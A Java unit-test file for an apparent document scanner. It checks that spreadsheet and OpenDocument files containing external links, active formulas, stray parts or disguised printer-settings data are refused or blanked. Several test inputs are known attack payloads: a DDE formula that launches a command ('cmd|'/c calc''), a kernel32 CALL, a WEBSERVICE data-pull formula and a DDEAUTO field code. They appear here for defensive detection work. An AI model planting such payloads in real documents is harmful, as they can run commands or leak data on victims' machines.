package org.lanzarote.monitoring.files.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.parallel.ExecutionMode.CONCURRENT;
import static org.lanzarote.monitoring.files.document.GivenDocuments.openDocument;
import static org.lanzarote.monitoring.files.document.GivenDocuments.picture;
import static org.lanzarote.monitoring.platform.problem.ProblemType.DOCUMENT_MORE_THAN_TEXT;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Base64;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Formulas, the settings of printers and the parts of OpenDocument hold what a table or a text needs. */
@Execution(CONCURRENT)
class TableListTest {

    @TempDir
    Path folder;

    private Looking looking;

    @BeforeEach
    void looking() {
        looking = new Looking(folder);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "IMAGE(\"https://www.example.org/a.png\")",
                "_xlfn.IMAGE(\"https://www.example.org/a.png\")",
                "_xlfn.WEBSERVICE(\"https://www.example.org/\"&amp;A1)",
                "cmd|'/c calc'!A0",
                "SUM(1,Rtd(\"a\",,\"b\"))",
                "CALL(\"kernel32\",\"a\",\"J\")",
                "[1]Sheet1!A1",
                "'C:\\[other.xlsx]Sheet'!A1",
                "'https://www.example.org/[other.xlsx]Sheet'!A1",
                "HYPERLINK(\"file:///C:/law.docx\")",
                "HYPERLINK(A1&amp;B1,\"law\")",
                "INDIRECT(A1)",
                "MAP(A1,_xleta.WEBSERVICE)"
            })
    void formulaThatBringsSomethingInIsRefused(String formula) {
        looking.refuses(xlsx(formula), DOCUMENT_MORE_THAN_TEXT, "xl/worksheets/sheet1.xml", "formula");
        looking.refuses(
                ods("of:=" + formula.replace("\"", "&quot;").replace("_xlfn.", "COM.MICROSOFT.")),
                DOCUMENT_MORE_THAN_TEXT,
                "content.xml",
                "formula");
    }

    @Test
    void formulaOfARuleIsReadToo() {
        var rule = "<conditionalFormatting sqref=\"A1\"><cfRule type=\"dataBar\" priority=\"1\"><dataBar>"
                + "<cfvo type=\"formula\" val=\"WEBSERVICE(A1)\"/></dataBar></cfRule></conditionalFormatting>";
        looking.refuses(
                GivenPackage.of(GivenDocuments.xlsx())
                        .edited("xl/worksheets/sheet1.xml", xml -> xml.replace("</sheetData>", "</sheetData>" + rule))
                        .bytes(),
                DOCUMENT_MORE_THAN_TEXT,
                "WEBSERVICE");
    }

    @Test
    void coloursThatFollowFromFiguresAreRefused() {
        var scale = "<conditionalFormatting sqref=\"A1:Z99\"><cfRule type=\"colorScale\" priority=\"1\"><colorScale>"
                + "<cfvo type=\"min\"/><cfvo type=\"max\"/><color rgb=\"FF000000\"/><color rgb=\"FFFFFFFF\"/>"
                + "</colorScale></cfRule></conditionalFormatting>";
        looking.refuses(
                GivenPackage.of(GivenDocuments.xlsx())
                        .edited("xl/worksheets/sheet1.xml", xml -> xml.replace("</sheetData>", "</sheetData>" + scale))
                        .bytes(),
                DOCUMENT_MORE_THAN_TEXT,
                "colorScale");
    }

    @Test
    void formulaOfATableIsTaken() {
        assertThat(looking.at(xlsx("SUM(A1:A9)/_xlfn.IFS('Sheet"
                                + " (2)'!B1&gt;0,\"[a]|b(\",TRUE,ROUND(Table1[[#All],[n]],2))"))
                        .type())
                .isEqualTo(DocumentType.XLSX);
        assertThat(looking.at(ods("of:=SUM([.A1:.A9];['Sheet"
                                + " 2'.B1])&amp;HYPERLINK(&quot;https://www.example.org/&quot;)"))
                        .type())
                .isEqualTo(DocumentType.ODS);
    }

    @Test
    void settingsOfAPrinterAreMadeBlankAndAPictureIsNotTakenForThem() throws IOException {
        var record = ByteBuffer.allocate(620)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putShort(68, (short) 220)
                .putShort(70, (short) 400)
                .put(300, new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF})
                .array();
        var file = looking.file(printed(record));
        assertThat(DocumentCheck.check(file).previewBlanked()).isTrue();
        var kept = GivenPackage.of(Files.readAllBytes(file)).part("xl/printerSettings/printerSettings1.bin");
        assertThat(kept).hasSize(220).doesNotContain(0xFF);
        assertThat(DocumentCheck.check(file).type()).isEqualTo(DocumentType.XLSX);
        looking.refuses(printed(forged()), DOCUMENT_MORE_THAN_TEXT, "printerSettings1.bin", "JPEG");
    }

    @Test
    void settingsOfAPrinterInOpenDocumentAreMadeBlank() throws IOException {
        var settings = "<office:document-settings xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
                + " xmlns:config=\"urn:oasis:names:tc:opendocument:xmlns:config:1.0\"><office:settings>"
                + "<config:config-item-set config:name=\"ooo:configuration-settings\"><config:config-item"
                + " config:name=\"PrinterSetup\" config:type=\"base64Binary\">%s</config:config-item>"
                + "<config:config-item config:name=\"A\" config:type=\"boolean\">true</config:config-item>"
                + "</config:config-item-set></office:settings></office:document-settings>";
        var file = looking.file(openDocument(DocumentType.ODT)
                .with("settings.xml", settings.formatted(Base64.getEncoder().encodeToString(picture("jpg"))))
                .bytes());
        assertThat(DocumentCheck.check(file).previewBlanked()).isTrue();
        assertThat(GivenPackage.of(Files.readAllBytes(file)).part("settings.xml"))
                .asString()
                .isEqualTo(settings.formatted(""));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<style:background-image xlink:href=\"https://www.example.org/a.png\"/>",
                "<draw:fill-image draw:name=\"a\" xlink:href=\"https://www.example.org/a.png\"/>",
                "<old:image xmlns:old=\"http://openoffice.org/2000/drawing\" xlink:href=\"#Pictures/1.png\"/>",
                "<text:p xlink:href=\"https://www.example.org/a.png\"/>",
                "<draw:path/>",
                "<text:a xlink:href=\"ftp://www.example.org/a.png\"/>",
                "<f:param xmlns:f=\"urn:openoffice:names:experimental:ooo-ms-interop:xmlns:field:1.0\""
                        + " f:name=\"vnd.oasis.opendocument.field.code\" f:value=\" DDEAUTO cmd\"/>",
                "<c:color-scale xmlns:c=\"urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0\"/>",
                "<anything/>"
            })
    void elementOfOpenDocumentThatNoTextNeedsIsRefused(String element) {
        looking.refuses(odt(element), DOCUMENT_MORE_THAN_TEXT, "content.xml");
    }

    @ParameterizedTest
    @ValueSource(strings = {"anything.xml", "Pictures/1.svm", "Configurations2/toolbar/a.xml", "META-INF/x.xml"})
    void partOfOpenDocumentThatNoTextNeedsIsRefused(String part) {
        looking.refuses(openDocument(DocumentType.ODT).with(part, "<x/>").bytes(), DOCUMENT_MORE_THAN_TEXT, part);
    }

    /** A JPEG that states its own size where a printer's record does. */
    private static byte[] forged() {
        var picture = ByteBuffer.wrap(Arrays.copyOf(picture("jpg"), 700)).order(ByteOrder.LITTLE_ENDIAN);
        return picture.putShort(68, (short) 220).putShort(70, (short) 480).array();
    }

    private static byte[] printed(byte[] settings) {
        return GivenPackage.of(GivenDocuments.xlsx())
                .with("xl/printerSettings/printerSettings1.bin", settings)
                .edited(
                        "[Content_Types].xml",
                        xml -> xml.replace(
                                "</Types>",
                                "<Default Extension=\"bin\" ContentType=\"application/vnd.openxmlformats-officedocument"
                                        + ".spreadsheetml.printerSettings\"/></Types>"))
                .bytes();
    }

    private static byte[] xlsx(String formula) {
        return GivenPackage.of(GivenDocuments.xlsx())
                .edited("xl/worksheets/sheet1.xml", xml -> xml.replace("<v>", "<f>" + formula + "</f><v>"))
                .bytes();
    }

    private static byte[] ods(String formula) {
        return openDocument(DocumentType.ODS)
                .edited(
                        "content.xml",
                        xml -> xml.replace(
                                "<text:p>",
                                "<table:table"
                                        + " xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\"><table:table-row><table:table-cell"
                                        + " table:formula=\"" + formula
                                        + "\"/></table:table-row></table:table><text:p>"))
                .bytes();
    }

    private static byte[] odt(String element) {
        return openDocument(DocumentType.ODT)
                .edited("content.xml", xml -> xml.replace("<text:p>", element + "<text:p>"))
                .bytes();
    }
}
